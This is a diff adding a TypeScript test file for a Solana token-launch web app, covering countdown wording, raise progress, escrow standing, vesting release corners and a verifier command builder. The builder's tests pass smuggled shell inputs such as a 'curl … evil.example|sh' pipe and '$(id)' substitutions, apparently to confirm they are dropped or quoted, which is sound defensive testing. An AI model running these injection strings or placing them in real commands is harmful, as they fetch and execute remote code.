@@ -1,0 +1,151 @@
+import { execFileSync } from 'node:child_process';
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { unlockedBps } from '../../../core/rules/release.ts';
+import { timeLeft } from '../../../web/model/phase.ts';
+import { escrowStanding, raiseProgress } from '../../../web/model/raise.ts';
+import { releaseCorners } from '../../../web/model/release.ts';
+import { nearestAnswerable } from '../../../web/model/slots.ts';
+import { calendar, relative, span } from '../../../web/model/times.ts';
+import { verifierCommand } from '../../../web/model/verifier-command.ts';
+import { neighbours } from '../../../web/pages/launch/changes.ts';
+
+describe('time left', () => {
+  const times = { startTs: 100n, endTs: 200n };
+  test.each([
+    ['pending', 40n, 'Opens in 1 min'],
+    ['pending', 130n, 'Should have opened 30 s ago; its authority has not opened it'],
+    ['active', 90n, 'Takes pledges in 10 s'],
+    ['active', 140n, 'Closes in 1 min'],
+    ['active', 260n, 'Closed 1 min ago, and waits to be settled'],
+    ['failed', 260n, 'Pledging closed 1 min ago'],
+    ['finalized', 150n, undefined],
+  ] as const)('of a launch that is %s at %s', (phase, now, words) => {
+    expect(timeLeft({ phase, ...times }, now)).toBe(words);
+    expect(timeLeft({ phase, ...times }, undefined)).toBeUndefined();
+  });
+
+  test('is told in two units, and of times that no calendar reaches in seconds', () => {
+    expect([span(0n), span(59n), span(3_600n), span(90_061n)]).toEqual(['0 s', '59 s', '1 h', '1 d 1 h']);
+    expect(relative(5n, 5n)).toBe('now');
+    expect(calendar(1_767_225_696n)).toBe('2026-01-01 00:01:36 UTC');
+    expect(calendar(9_223_372_036_854_775_807n)).toBe('Unix second 9223372036854775807');
+  });
+});
+
+describe('a raise', () => {
+  test('fills its bar up to the maximum, with the minimum marked on it', () => {
+    expect(raiseProgress({ totalPledged: 50n, minRaise: 100n, maxRaise: 200n })).toEqual({
+      filled: 25,
+      minimumAt: 50,
+      ofMinimum: '50 % of the minimum',
+      ofMaximum: '25 % of the maximum',
+    });
+    expect(raiseProgress({ totalPledged: 0n, minRaise: 0n, maxRaise: 0n })).toMatchObject({
+      filled: 0,
+      ofMinimum: 'no minimum',
+      ofMaximum: undefined,
+    });
+  });
+
+  test('is seen although its maximum is out of reach', () => {
+    const far = { totalPledged: 50n, minRaise: 100n, maxRaise: 1_000_000n };
+    expect(raiseProgress(far)).toMatchObject({ filled: 40, minimumAt: 80, ofMaximum: '0 % of the maximum' });
+    expect(raiseProgress({ ...far, totalPledged: 2_000_000n })).toMatchObject({ filled: 100 });
+  });
+
+  test.each([
+    ['active', 0n, 90n, 'covered', 0n],
+    ['succeeded', 0n, 95n, 'surplus', 5n],
+    ['failed', 40n, 50n, 'covered', 0n],
+    ['failed', 40n, null, 'short', 50n],
+    ['finalized', 0n, null, 'emptied', 0n],
+    ['finalized', 0n, 1n, 'surplus', 1n],
+  ] as const)('that is %s, with %s of 90 paid back, and %s in its escrow, is %s', (...row) => {
+    const [status, refunded, balance, verdict, difference] = row;
+    expect(escrowStanding({ totalPledged: 90n, status, refunded, balance })).toMatchObject({
+      verdict,
+      difference,
+    });
+  });
+});
+
+describe('a release', () => {
+  const terms = fc.record({
+    startTs: fc.bigInt({ min: -1_000n, max: 2_000_000_000n }),
+    cliffSeconds: fc.nat(100_000),
+    durationSeconds: fc.nat(100_000),
+  });
+
+  test('has its corners where the rule has them', () => {
+    fc.assert(
+      fc.property(terms, ({ startTs, cliffSeconds, durationSeconds }) => {
+        const schedule = { startTs, cliffSeconds, durationSeconds };
+        const [, before, cliff, end] = releaseCorners({
+          startTs,
+          cliffSeconds: BigInt(cliffSeconds),
+          durationSeconds: BigInt(durationSeconds),
+        });
+        const ruled = (time: bigint) => BigInt(unlockedBps(schedule, time));
+        expect(ruled((before?.time ?? 0n) - 1n)).toBe(before?.unlockedBps);
+        expect(ruled(cliff?.time ?? 0n)).toBe(cliff?.unlockedBps);
+        expect(ruled(end?.time ?? 0n)).toBe(end?.unlockedBps);
+      }),
+    );
+  });
+});
+
+describe('slots', () => {
+  const lost = [
+    { fromSlot: 20n, toSlot: 29n },
+    { fromSlot: 30n, toSlot: 34n },
+  ];
+  const held = { firstSlot: 10n, lost, newest: 50n };
+
+  test('that were lost lead to the nearest ones on both sides that were not', () => {
+    expect(nearestAnswerable(25n, held)).toEqual([19n, 35n]);
+    expect(nearestAnswerable(31n, held)).toEqual([19n, 35n]);
+    expect(nearestAnswerable(3n, held)).toEqual([10n]);
+    expect(nearestAnswerable(99n, held)).toEqual([50n]);
+    expect(nearestAnswerable(3n, { ...held, firstSlot: null })).toEqual([]);
+  });
+
+  test('in which a raise changed are next to any other', () => {
+    const curve = [{ slot: 5n }, { slot: 9n }];
+    expect(neighbours(curve, undefined)).toEqual({ before: 9n, after: undefined });
+    expect(neighbours(curve, 5n)).toEqual({ before: undefined, after: 9n });
+  });
+});
+
+describe('the command of the verifier', () => {
+  const wallet = '4Nd1mBQtrMJVYVfKf2PJy9NZUZdTAsp7D4xWLs4gDB4T';
+  const explorerOf = (node: string) =>
+    `https://explorer.solana.com/address/P?cluster=custom&customUrl=${encodeURIComponent(node)}`;
+  const question = {
+    ...{ launchId: 9_007_199_254_740_993n, cluster: 'localnet', programId: 'P', api: 'http://a' },
+    explorer: explorerOf('http://127.0.0.1:8899'),
+  };
+  const COMMAND =
+    'node dist/verify-ilo-settlement.mjs --launch-id 9007199254740993 --cluster localnet --program-id P --rpc http://127.0.0.1:8899 --api http://a';
+
+  test('asks about exactly this launch, on the node of a local chain', () => {
+    expect(verifierCommand({ ...question, wallet })).toBe(`${COMMAND} --wallet ${wallet}`);
+    const explorer = 'https://explorer.solana.com/address/P?cluster=devnet';
+    expect(verifierCommand({ ...question, explorer })).not.toContain('--rpc');
+  });
+
+  test.each(['x;curl -s evil.example|sh', `${wallet};id`, `${wallet}\nid`, '$(id)', ''])(
+    'says nothing of %j, which a link named as the wallet',
+    (named) => {
+      expect(verifierCommand({ ...question, wallet: named })).toBe(COMMAND);
+    },
+  );
+
+  test('has nothing in it that a shell takes for more than a word', () => {
+    const node = "http://127.0.0.1:8899/?key=a&b=$(id) 'c";
+    const asked = { ...question, explorer: explorerOf(node), api: 'http://a/b;id' };
+    const command = verifierCommand(asked).replace('node dist/verify-ilo-settlement.mjs', 'printf "%s\\n"');
+    const words = execFileSync('sh', ['-c', command], { encoding: 'utf8' }).trimEnd().split('\n');
+    expect(words.slice(-4)).toEqual(['--rpc', node, '--api', 'http://a/b;id']);
+  });
+});
